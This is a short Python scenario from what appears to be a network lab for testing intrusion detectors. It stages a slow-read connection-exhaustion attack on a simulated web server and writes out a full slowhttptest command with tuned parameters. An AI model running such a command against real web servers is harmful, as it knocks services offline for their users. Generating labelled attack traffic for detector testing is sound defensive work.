"""Slow read by slowhttptest."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker = net.inside("attacker")
    web = net.web()
    net.everyday()
    with net.attack(
        "connection-exhaustion",
        by=attacker,
        victims=[web],
        frames=f"tcp and dst host {web.ip} and dst port 80",
        responses=f"tcp and src host {web.ip} and dst host {attacker.ip}",
    ):
        net.tool(
            attacker,
            *f"slowhttptest -c 40 -X -r 20 -w 256 -y 512 -n 6 -z 16 -k 3 -l 44 -p 3 -u http://{web.ip}/report.pdf".split(),
            seconds=46,
        )
    net.quiet(2)


SCENARIO = Scenario(
    name="connection-exhaustion-slow-read",
    about="slowhttptest -X asks a web server for a large file 40 times and reads 16 octets every 6 seconds.",
    detectors=("connection-exhaustion",),
    tools={"slowhttptest": "slowhttptest"},
    run=run,
)
